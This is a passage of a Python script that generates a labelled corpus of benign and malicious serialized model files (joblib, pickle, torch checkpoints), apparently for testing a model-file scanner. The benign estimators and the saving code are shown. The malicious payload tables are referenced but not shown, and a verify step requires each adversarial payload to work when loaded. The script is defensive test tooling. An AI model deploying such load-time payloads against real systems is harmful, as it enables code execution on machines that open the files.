        "truncated_svd": unsup(decomposition.TruncatedSVD(n_components=2)),
        "nmf": unsup(decomposition.NMF(n_components=2, max_iter=50), Xp),
        "standard_scaler": unsup(preprocessing.StandardScaler()),
        "minmax_scaler": unsup(preprocessing.MinMaxScaler()),
        "robust_scaler": unsup(preprocessing.RobustScaler()),
        "quantile_transformer": unsup(preprocessing.QuantileTransformer(n_quantiles=20)),
        "power_transformer": unsup(preprocessing.PowerTransformer()),
        "kbins_discretizer": unsup(preprocessing.KBinsDiscretizer(n_bins=3)),
        "polynomial_features": unsup(preprocessing.PolynomialFeatures()),
        "spline_transformer": unsup(preprocessing.SplineTransformer()),
        "one_hot_encoder": unsup(preprocessing.OneHotEncoder(), np.array([["a"], ["b"], ["a"]])),
        "ordinal_encoder": unsup(preprocessing.OrdinalEncoder(), np.array([["a"], ["b"], ["a"]])),
        "label_encoder": lambda: preprocessing.LabelEncoder().fit(["x", "y", "x"]),
        "function_transformer_log1p": unsup(preprocessing.FunctionTransformer(np.log1p), Xp),
        "function_transformer_clip": unsup(
            preprocessing.FunctionTransformer(np.clip, kw_args={"a_min": 0, "a_max": 1})
        ),
        "simple_imputer": unsup(impute.SimpleImputer()),
        "knn_imputer": unsup(impute.KNNImputer()),
        "select_k_best_f_classif": clf(feature_selection.SelectKBest(k=2)),
        "variance_threshold": unsup(feature_selection.VarianceThreshold()),
        "rfe": clf(feature_selection.RFE(lr(), n_features_to_select=2)),
        "tfidf_vectorizer": unsup(feature_extraction.text.TfidfVectorizer(), docs),
        "count_vectorizer": unsup(feature_extraction.text.CountVectorizer(), docs),
        "calibrated_classifier_cv": clf(calibration.CalibratedClassifierCV(lr(), cv=2)),
        "grid_search_accuracy": clf(model_selection.GridSearchCV(lr(), {"C": [0.5, 1.0]}, scoring="accuracy", cv=2)),
        "grid_search_make_scorer": clf(
            model_selection.GridSearchCV(lr(), {"C": [0.5, 1.0]}, scoring=metrics.make_scorer(metrics.f1_score), cv=2)
        ),
        "randomized_search_list": clf(
            model_selection.RandomizedSearchCV(lr(), {"C": [0.1, 1.0, 10.0]}, n_iter=2, cv=2)
        ),
        "randomized_search_scipy": clf(
            model_selection.RandomizedSearchCV(
                lr(), {"C": stats.loguniform(1e-2, 1e2), "max_iter": stats.randint(50, 100)}, n_iter=2, cv=2
            )
        ),
        "one_vs_rest": clf(multiclass.OneVsRestClassifier(lr())),
        "column_transformer": unsup(
            compose.ColumnTransformer([("num", preprocessing.StandardScaler(), [0, 1]), ("pass", "passthrough", [2])])
        ),
        "transformed_target": lambda: compose.TransformedTargetRegressor(
            linear_model.LinearRegression(), func=np.log1p, inverse_func=np.expm1
        ).fit(X, np.abs(yr)),
        "pipeline": clf(pipeline.make_pipeline(preprocessing.StandardScaler(), decomposition.PCA(2), lr())),
        "kernel_ridge": reg(kernel_ridge.KernelRidge()),
        "gaussian_process": reg(gaussian_process.GaussianProcessRegressor()),
        "isotonic": lambda: isotonic.IsotonicRegression().fit(X[:, 0], yr),
        "nystroem": unsup(kernel_approximation.Nystroem(n_components=10)),
        "numpy_masked_array": lambda: np.ma.masked_array([1.0, 2.0, 3.0], mask=[0, 1, 0]),
        "argparse_namespace": lambda: {"args": argparse.Namespace(lr=0.1, epochs=3), "coef": np.ones(3)},
    }


def _benign_estimators(out: Path) -> list[Path]:
    """Every estimator saved with joblib, and every fifth also with pickle; torch modules saved whole."""
    import warnings

    import joblib
    import torch

    paths: list[Path] = []
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for i, (name, make) in enumerate(_estimators().items()):
            obj = make()
            p = out / f"e{i:02d}_{name}.joblib"
            joblib.dump(obj, p)
            paths.append(p)
            if i % 5 == 0:
                q = out / f"e{i:02d}_{name}.pkl"
                with open(q, "wb") as fh:
                    pickle.dump(obj, fh, protocol=pickle.HIGHEST_PROTOCOL)
                paths.append(q)
        nn = torch.nn
        modules = {
            "weight_norm": nn.Sequential(nn.utils.weight_norm(nn.Linear(4, 3)), nn.ReLU()),
            "spectral_norm": nn.Sequential(nn.utils.spectral_norm(nn.Linear(4, 3))),
            "lstm": nn.LSTM(4, 4),
            "gru": nn.GRU(4, 4),
            "transformer_encoder": nn.TransformerEncoder(nn.TransformerEncoderLayer(8, 2, 16), 1),
            "embedding_layernorm": nn.Sequential(nn.Embedding(10, 4), nn.LayerNorm(4), nn.Dropout(0.1), nn.GELU()),
            "conv_pool": nn.Sequential(nn.Conv1d(1, 2, 3), nn.BatchNorm1d(2), nn.MaxPool1d(2), nn.Flatten()),
        }
        for name, module in modules.items():
            p = out / f"t_{name}_whole_model.pt"
            torch.save(module, p)
            paths.append(p)
        p = out / "t_checkpoint_argparse.ckpt"
        torch.save({"model": modules["lstm"].state_dict(), "args": argparse_namespace()}, p)
        paths.append(p)
    return paths


def argparse_namespace() -> object:
    import argparse

    return argparse.Namespace(lr=3e-4, batch_size=32, arch="lstm")


def generate(out: Path, *, verify_adversarial: bool = True) -> tuple[list[Path], list[Path]]:
    """Write the corpus; return (malicious, benign). `labels.json` maps each file to its technique.

    Adversarial samples are loaded for real in a sandbox (`verify`) and a sample whose payload
    does not work is an error, so every label is backed by a demonstrated effect.
    """
    out.mkdir(parents=True, exist_ok=True)
    bad_dir = out / "malicious"
    good_dir = out / "benign"
    bad_dir.mkdir(exist_ok=True)
    good_dir.mkdir(exist_ok=True)
    bad: list[Path] = []
    labels: dict[str, str] = {}
    for name, make in MALICIOUS.items():
        p = bad_dir / name
        p.write_bytes(make())
        bad.append(p)
        labels[str(p)] = "classic"
    for name, (technique, make) in ADVERSARIAL.items():
        p = bad_dir / name
        p.write_bytes(make())
        if verify_adversarial and not verify(p, technique):
            raise RuntimeError(f"{name}: the payload had no effect when loaded, so it is not a valid sample")
        bad.append(p)
        labels[str(p)] = technique
    good = _benign(good_dir)
    for p in good:
        labels[str(p)] = "benign"
    (out / "labels.json").write_text(json.dumps(labels, indent=1))
    return bad, good


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "/tmp/bastion-model-corpus")
    b, g = generate(target)
    print(f"{len(b)} malicious, {len(g)} benign written to {target}")
    _ = zlib  # keep the import for readers extending the corpus with raw deflate members
